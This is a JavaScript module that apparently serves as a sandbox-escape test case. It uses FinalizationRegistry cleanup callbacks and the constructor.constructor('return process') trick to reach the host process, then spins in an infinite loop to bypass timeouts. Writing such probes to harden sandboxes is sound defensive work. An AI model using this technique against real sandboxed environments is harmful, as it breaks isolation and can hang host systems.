// Escape attempt: GHSA (timeout bypass): FinalizationRegistry / WeakRef callbacks run outside the caller, once used to escape vm2 timeouts; here they try to escape and spin.
// Runs with ../escape-harness.js prepended (pwn, attempt).

module.exports = {
  name: 'escape-finalization-registry',
  description: 'sandbox escape attempt: finalization-registry',
  risk: 'inspect',
  phrases: [],
  params: { marker: { type: 'string' } },
  applies_to: [],
  async run(ctx, params) {
    const marker = params.marker;
    const notes = [];

    const registry = new FinalizationRegistry((held) => { attempt(notes, "cleanup", () => pwn(held.constructor.constructor("return process")(), marker, notes, "finalizer")); for (;;) {} });
    for (let i = 0; i < 1000; i++) registry.register({ big: new Array(1000).fill(i) }, "held" + i);
    const ref = new WeakRef({});
    attempt(notes, "deref", () => ref.deref());
    return { summary: notes.join(' | '), data: notes };
  },
};
